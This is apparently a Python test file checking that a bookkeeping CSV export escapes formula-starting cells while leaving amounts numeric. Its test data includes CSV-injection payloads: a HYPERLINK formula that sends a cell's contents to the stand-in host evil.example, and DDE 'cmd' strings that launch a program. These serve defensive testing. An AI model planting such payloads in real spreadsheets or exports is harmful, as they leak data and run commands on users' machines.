"""CSV injection: text from strangers (a supplier's name, a booking text) never starts a
cell of the booked output as a formula, and amounts stay numbers."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from domain.csv_cells import SafeCsvWriter, csv_cell, csv_row
from domain.enums import BookingStatus
from domain.records import BookingLine, BookingView
from flows.export_bookings import render_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Gloor")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+41 44 123 45 67", "'+41 44 123 45 67"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("-1e5", "'-1e5"),
        ("-\u0661\u0662", "'-\u0661\u0662"),  # not ASCII digits: text
        # Numbers are numbers: a negative amount must stay summable.
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("-7", "-7"),
        ("1000.00", "1000.00"),
        # Ordinary text, and formula characters that are not at the start.
        ("Gloor Elektro AG", "Gloor Elektro AG"),
        ("A=B", "A=B"),
        ("", ""),
        ("'=already quoted", "'=already quoted"),
    ],
)
def test_csv_cell_escapes_formulas_and_keeps_numbers(value: str, expected: str) -> None:
    assert csv_cell(value) == expected


def test_csv_row_and_writer_treat_every_cell() -> None:
    assert csv_row([1, None, "-3.10", "=1+1", Decimal("-4.20")]) == [
        "1",
        "",
        "-3.10",
        "'=1+1",
        "-4.20",
    ]
    out = io.StringIO()
    SafeCsvWriter(csv.writer(out, lineterminator="\n")).writerow(["=cmd", "-5.00", "text"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=cmd", "-5.00", "text"]


def test_exported_csv_has_no_formula_at_the_start_of_a_cell() -> None:
    """The file `export-bookings` writes (flows.export_bookings.render_csv)."""
    view = BookingView(
        id=7,
        seq=3,
        client_id="C01",
        document_id=12,
        status=BookingStatus.POSTED,
        date=date(2026, 3, 2),
        currency="CHF",
        supplier_id="S001",
        supplier_name=HYPERLINK,
        lines=[
            BookingLine(account="6100", debit=Decimal("12.50"), text="@evil"),
            BookingLine(account="2000", credit=Decimal("12.50"), text="-Skonto"),
        ],
    )
    rows = list(csv.DictReader(io.StringIO(render_csv([view]).decode())))
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit()
    assert rows[0]["supplier_name"] == "'" + HYPERLINK
    assert [r["text"] for r in rows] == ["'@evil", "'-Skonto"]
    assert (rows[0]["debit"], rows[1]["credit"]) == ("12.50", "12.50")
